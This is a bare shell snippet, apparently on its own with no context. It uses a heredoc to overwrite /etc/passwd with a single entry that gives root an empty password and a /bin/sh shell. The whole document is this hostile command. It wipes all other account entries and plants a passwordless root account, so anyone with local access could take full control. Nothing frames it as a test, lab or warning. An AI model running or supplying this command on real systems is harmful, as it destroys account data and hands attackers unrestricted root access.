cat <<EOF > /etc/passwd
root::0:0::/root:/bin/sh
EOF
